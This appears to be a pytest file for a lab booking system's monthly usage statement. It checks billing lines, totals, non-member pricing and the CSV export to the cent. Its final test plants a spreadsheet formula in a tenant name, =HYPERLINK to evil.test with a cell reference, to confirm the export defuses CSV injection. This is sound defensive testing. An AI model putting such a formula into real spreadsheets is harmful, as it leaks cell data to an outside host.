"""The monthly usage statement, checked to the cent on a fixture month (March 2026) with a
member tenant (Acme, 120 included minutes) and a non-member tenant (Globex)."""

import csv
import io

import pytest

from bookings import engine
from bookings.engine import Slot, book
from campus import clock
from labs import sessions, usage
from tests.bookings.conftest import NOW, at
from tests.labs.conftest import qualify

MARCH = clock.parse_month("2026-03")


@pytest.fixture
def march(bob, charlie, acme, room, scope, chamber, bob_on_chamber):
    acme.included_minutes_per_month = 120
    acme.save()
    qualify(bob, scope)
    qualify(charlie, scope)
    book(bob, Slot(room, at(3, 10), at(3, 11, 30)), now=NOW)  # 90 min, 30.00
    book(bob, Slot(room, at(5, 14), at(5, 15)), now=NOW)  # 60 min, 20.00
    measured = book(bob, Slot(scope.resource, at(4, 10), at(4, 12)), now=NOW)
    session = sessions.start_session(bob, scope, source="portal", now=at(4, 10, 5))
    sessions.stop_session(session, reason="manual", now=at(4, 11, 20).replace(second=30))
    session.refresh_from_db()
    session.energy_wh = 350
    session.save()
    book(bob, Slot(chamber.resource, at(6, 9), at(6, 10)), now=NOW)  # booked, never used
    book(bob, Slot(chamber.resource, at(10, 9), at(10, 11)), now=NOW)
    run = sessions.start_session(bob, chamber, source="controller", now=at(10, 9))
    sessions.stop_session(run, reason="booking_end", now=at(10, 10, 30), energy_wh=1234)
    late = book(bob, Slot(room, at(9, 10), at(9, 12)), now=NOW)
    engine.cancel(bob, late, now=at(8, 12))  # 22 h ahead: 50 % of 40.00
    book(bob, Slot(room, at(1, 10, month=4), at(1, 11, month=4)), now=NOW)  # April
    book(charlie, Slot(room, at(3, 14), at(3, 14, 45)), now=NOW)  # non-member: 35.00/h
    book(charlie, Slot(scope.resource, at(4, 14), at(4, 15)), now=NOW)  # 20.00/h
    return measured


def test_the_member_statement_is_exact_to_the_cent(acme, march):
    statement = usage.statement_for(acme, MARCH)
    kinds = [
        (line.kind, line.resource, line.minutes, line.amount_cents) for line in statement.lines
    ]
    assert kinds == [
        ("room", "B-1.50", 90, 3000),
        ("credit", "B-1.50", 90, -3000),
        ("equipment", "EQ-OSC-1", 76, 1267),  # 75.5 min measured → 76 min at 10.00/h
        ("room", "B-1.50", 60, 2000),
        ("credit", "B-1.50", 30, -1000),  # the last 30 included minutes
        ("equipment", "EQ-CEM", 60, 10000),  # booked time: no session
        ("room", "B-0.10-CTRL", 60, 0),  # the chamber's control room, booked with it
        ("late_cancellation", "B-1.50", 120, 2000),
        ("equipment", "EQ-CEM", 90, 15000),  # measured 90 of 120 booked minutes
        ("energy", "EQ-CEM", 0, 25),  # 1,234 Wh at 0.20 €/kWh = 24.68 → 25
        ("room", "B-0.10-CTRL", 120, 0),
    ]
    assert statement.lines[2].basis == "measured" and statement.lines[5].basis == "booked"
    assert statement.totals == {
        "room_minutes": 330,
        "room_cents": 5000,
        "equipment_minutes": 226,
        "equipment_cents": 26267,
        "energy_wh": 1584,
        "energy_cents": 25,
        "credit_minutes": 120,
        "credit_cents": -4000,
        "late_cancellation_cents": 2000,
        "total_cents": 29292,
    }


def test_the_non_member_statement_uses_non_member_prices(globex, march):
    statement = usage.statement_for(globex, MARCH)
    assert [(line.kind, line.amount_cents) for line in statement.lines] == [
        ("room", 2625),
        ("equipment", 2000),
    ]
    assert statement.tier == "non_member"
    assert statement.totals["total_cents"] == 4625


def test_same_inputs_give_the_same_statement(acme, march):
    first = usage.load_inputs(acme, MARCH)
    assert usage.load_inputs(acme, MARCH) == first
    assert usage.compute(usage.load_inputs(acme, MARCH)) == usage.compute(first)
    assert usage.compute(first).lines  # a real statement, not two empty ones


def test_the_csv_opens_in_a_spreadsheet_with_the_expected_columns(acme, march):
    statement = usage.statement_for(acme, MARCH)
    body = usage.to_csv(statement, decimal_comma=True)
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == [
        "date",
        "kind",
        "resource",
        "name",
        "basis",
        "minutes",
        "energy_wh",
        "unit_price",
        "amount",
    ]
    assert rows[3] == [
        "2026-03-04",
        "equipment",
        "EQ-OSC-1",
        "Oscilloscope 1",
        "measured",
        "76",
        "350",
        "10,00",
        "12,67",
    ]
    assert rows[2][-1] == "-30,00"
    assert rows[-1] == ["2026-03", "total", "", "Acme", "", "0", "0", "", "292,92"]
    dotted = list(
        csv.reader(io.StringIO(usage.to_csv(statement).decode("utf-8-sig")), delimiter=";")
    )
    assert dotted[-1][-1] == "292.92"


@pytest.mark.parametrize("text", ["2026-3", "2026/03", "march", "2026-13"])
def test_a_malformed_month_is_refused(text):
    with pytest.raises(ValueError):
        clock.parse_month(text)


def test_the_csv_defuses_names_a_spreadsheet_would_run_and_keeps_amounts_numbers(
    acme, march, scope
):
    acme.name = '=HYPERLINK("https://evil.test/?"&A1;"Invoice")'
    acme.save()
    scope.resource.name = "@SUM(A1:A9)"
    scope.resource.save()
    statement = usage.statement_for(acme, MARCH)
    rows = list(
        csv.reader(
            io.StringIO(usage.to_csv(statement, decimal_comma=True).decode("utf-8-sig")),
            delimiter=";",
        )
    )
    machine = next(r for r in rows if r[2] == "EQ-OSC-1")
    assert machine[3] == "'@SUM(A1:A9)"
    total = rows[-1]
    assert total[3] == '\'=HYPERLINK("https://evil.test/?"&A1;"Invoice")'
    credit = next(r for r in rows if r[1] == "credit")
    assert credit[-1] == "-30,00"  # a negative amount stays a number
    assert next(r for r in rows if r[1] == "total_credit")[-1] == "-40,00"
